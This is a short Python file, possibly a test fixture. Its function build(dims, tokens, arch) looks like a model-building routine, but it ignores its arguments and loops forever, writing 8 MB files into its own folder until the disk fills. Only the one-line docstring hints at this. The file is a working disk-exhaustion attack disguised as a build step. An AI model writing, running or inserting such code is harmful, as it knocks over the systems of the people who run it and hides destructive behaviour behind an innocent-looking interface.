"""Fills its own folder."""


def build(dims, tokens, arch):
    number = 0
    while True:
        number += 1
        with open(f"file{number}", "wb") as file:
            file.write(b"x" * (8 << 20))
